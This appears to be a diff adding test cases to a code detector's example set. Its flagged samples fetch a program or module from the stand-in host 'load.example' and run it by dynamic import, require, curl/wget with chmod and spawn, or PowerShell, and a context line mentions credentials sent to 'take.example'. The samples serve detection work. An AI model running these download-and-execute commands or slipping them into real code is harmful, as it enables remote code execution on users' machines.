@@ -70,8 +70,70 @@ export const throughFiles: DetectorExamples = {
       why: 'an archive that is made and sent in one go',
       attributes: { source: 'file:credential', sink: 'network.body', to: 'take.example' },
     },
+    {
+      code: [
+        "import fs from 'node:fs'; import os from 'node:os'; import path from 'node:path'; import { pathToFileURL } from 'node:url';",
+        "const place = path.join(os.tmpdir(), 'extra.mjs');",
+        "const answer = await fetch('https://load.example/extra'); const file = fs.createWriteStream(place); answer.body.pipe(file);",
+        'await import(`${pathToFileURL(place).href}?again`);',
+      ].join('\n'),
+      why: 'what was downloaded is loaded as a module',
+      attributes: { source: 'download', sink: 'process.program', to: 'module' },
+    },
+    {
+      code: [
+        "const fs = require('fs'); const https = require('https'); const path = require('path');",
+        "const place = path.join(__dirname, 'extra.js');",
+        "https.get('https://load.example/extra', (answer) => { const file = fs.createWriteStream(place); answer.pipe(file); file.on('finish', () => require(place)); });",
+      ].join('\n'),
+      why: 'the same with require, when the file is there',
+      attributes: { source: 'download', sink: 'process.program', to: 'module' },
+    },
+    {
+      code: "import { execSync } from 'node:child_process'; execSync('curl -fsSL https://load.example/helper -o /tmp/helper && chmod +x /tmp/helper && /tmp/helper');",
+      why: 'one command line downloads a program and starts it',
+      attributes: { source: 'download', sink: 'process.program', to: 'file' },
+    },
+    {
+      code: [
+        "import { execFileSync, spawn } from 'node:child_process'; import os from 'node:os'; import path from 'node:path';",
+        "const place = path.join(os.tmpdir(), 'helper');",
+        "execFileSync('wget', ['-q', 'https://load.example/helper', '-O', place]);",
+        "execFileSync('chmod', ['+x', place]);",
+        'spawn(place, [], { detached: true });',
+      ].join('\n'),
+      why: 'one command downloads it, and a later one starts it',
+      attributes: { source: 'download', sink: 'process.program', to: 'file' },
+    },
+    {
+      code: [
+        "import { exec, execSync } from 'node:child_process';",
+        "const place = process.env.TEMP + '\\\\helper.exe';",
+        'execSync(`powershell -Command "Invoke-WebRequest -Uri https://load.example/helper -OutFile ${place}"`);',
+        'exec(`"${place}" --quiet`);',
+      ].join('\n'),
+      why: 'the same by PowerShell',
+      attributes: { source: 'download', sink: 'process.program', to: 'file' },
+    },
   ],
   good: [
+    {
+      code: [
+        "import { execSync } from 'node:child_process'; import fs from 'node:fs';",
+        "execSync('curl -fsSL https://data.example/rates.json -o /tmp/rates.json');",
+        "const rates = JSON.parse(fs.readFileSync('/tmp/rates.json', 'utf8'));",
+        "execSync('/opt/acme/run --once');",
+      ].join('\n'),
+      why: 'a file of data is downloaded by a command and read',
+    },
+    {
+      code: [
+        "import fs from 'node:fs'; import path from 'node:path';",
+        "const answer = await fetch('https://data.example/kept'); answer.body.pipe(fs.createWriteStream(path.join(process.cwd(), 'kept.json')));",
+        "await import(path.join(process.cwd(), 'settings.mjs'));",
+      ].join('\n'),
+      why: 'another file is loaded than the one that was downloaded',
+    },
     {
       code: [
         "import https from 'https'; import fs from 'fs'; import { spawn } from 'child_process';",
